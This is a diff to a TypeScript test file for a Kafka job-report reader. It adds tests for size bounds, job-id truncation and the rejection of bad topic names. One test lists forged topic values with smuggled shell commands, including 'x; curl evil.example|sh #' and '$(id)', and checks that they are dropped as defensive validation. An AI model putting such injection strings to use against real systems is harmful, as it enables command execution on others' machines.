@@ -2,6 +2,7 @@
 import { assert, assertEquals } from "@std/assert";
 import type { PartitionStatus, RunningJob, WorkerHistory, WorkerStatus } from "@activejob/kafka";
 import type { NewRecord, StoredRecord } from "../../src/broker/record.ts";
+import { MAX_JOB_ID_LENGTH } from "../../src/control/record.ts";
 import { endRecord, MAX_REPORT_LENGTH, readReport, readWorkerId, reportRecord } from "../../src/reports/report.ts";
 
 const identity = {
@@ -90,7 +91,7 @@ Deno.test("a report is bounded: the partitions in trouble first, and the totals 
         n < 998 ? {} : { [n === 998 ? "retrying" : "stuck"]: Array(200).fill({ ...trouble, remedy: long }) },
       ),
   );
-  const runs = Array<RunningJob>(300).fill({ ...run, jobClass: "C".repeat(20_000) });
+  const runs = Array<RunningJob>(300).fill({ ...run, jobClass: "C".repeat(20_000), jobId: "i".repeat(20_000) });
   const topics = Array.from({ length: 50 }, (_, n) => `${n}`.padEnd(249, "t"));
   const record = reportRecord(identity, statusOf(partitions, runs), historyOf(topics));
   const report = read(record)!;
@@ -135,6 +136,80 @@ Deno.test("a report whose lists have malformed entries is read without them", ()
   assertEquals(found.status.groups[0]!.partitions.map(({ partition }) => partition), [1]);
   assertEquals(found.status.groups[0]!.running.length, 1);
   assertEquals(found.history.topics.map(({ topic }) => topic), ["c"]);
+});
+
+Deno.test("a forged report with many groups is read within the bounds of one that a worker writes", () => {
+  const name = "n".repeat(255);
+  const job = { ...run, jobClass: name, jobId: name, queue: name };
+  const failed = Array(50).fill(failing);
+  const sound = JSON.parse(reportRecord(identity, statusOf([partition(0)], [job]), null).value as string);
+  const [group] = sound.status.groups;
+  const [partitionOf] = group.partitions;
+  const listOf = (count: number, of: unknown) => Array(count).fill(of);
+  // The records that failed come first: the other groups use up the partitions.
+  const groups = [
+    ...listOf(2, { ...group, running: [], partitions: listOf(1, { ...partitionOf, retrying: failed, stuck: failed }) }),
+    ...listOf(2, {
+      ...group,
+      topics: listOf(90, "default"),
+      running: listOf(50, job),
+      partitions: listOf(90, partitionOf),
+    }),
+    ...listOf(60, { ...group, topics: [], running: [], partitions: [] }),
+  ];
+  const forged = JSON.stringify({ ...sound, status: { ...sound.status, groups } });
+  assert(forged.length < MAX_REPORT_LENGTH, `${forged.length} characters`);
+  const found = readText(forged)!.status.groups;
+  const partitions = found.flatMap((each) => each.partitions);
+  assertEquals({
+    groups: found.length,
+    topics: found.flatMap(({ topics }) => topics).length,
+    running: found.flatMap(({ running }) => running).length,
+    partitions: partitions.length,
+    runningOfPartitions: partitions.flatMap(({ running }) => running).length,
+    failing: partitions.flatMap(({ retrying, stuck }) => [...retrying, ...stuck]).length,
+  }, { groups: 50, topics: 100, running: 50, partitions: 100, runningOfPartitions: 50, failing: 50 });
+});
+
+Deno.test("an entry is left out if its topic is not the name of a topic: the name becomes a part of a command", () => {
+  const forged = [
+    "x; curl evil.example|sh #",
+    "$(id)",
+    "a b",
+    "a\n",
+    "--app=evil.ts ",
+    "",
+    "..",
+    "t".repeat(250),
+    7,
+    null,
+  ];
+  const found = (topic: unknown) => {
+    const named = topic as string;
+    const records = [{ ...failing, topic: named, remedy: "" }];
+    const partitions = [
+      partition(0, { retrying: records, stuck: records }),
+      { ...partition(1), topic: named },
+    ];
+    const report = reportRecord(identity, statusOf(partitions, [{ ...run, topic: named }]), null);
+    const [group] = read(report)!.status.groups;
+    const [first] = group!.partitions;
+    return [group!.partitions, group!.running, first!.retrying, first!.stuck].map((list) => list.length);
+  };
+  assertEquals(forged.map(found), forged.map(() => [1, 0, 0, 0]));
+  assertEquals(found("eu.mail_2-x"), [2, 1, 1, 1]);
+});
+
+Deno.test("a running job with the longest id that can be cancelled keeps it, and a longer one is cut", () => {
+  const reported = (length: number) => {
+    const job = { ...run, jobId: "i".repeat(length) };
+    const written = reportRecord(identity, statusOf([partition(0)], [job]), null);
+    // A forged report is not cut by its writer.
+    const forged = (written.value as string).replace(/"i+"/, JSON.stringify(job.jobId));
+    return [read(written)!, readText(forged)!].map(({ status }) => status.groups[0]!.running[0]!.jobId.length);
+  };
+  assertEquals(reported(MAX_JOB_ID_LENGTH), [MAX_JOB_ID_LENGTH, MAX_JOB_ID_LENGTH]);
+  assertEquals(reported(MAX_JOB_ID_LENGTH + 1), [MAX_JOB_ID_LENGTH, MAX_JOB_ID_LENGTH]);
 });
 
 Deno.test("a record that is not a report is ignored, whatever it is", () => {
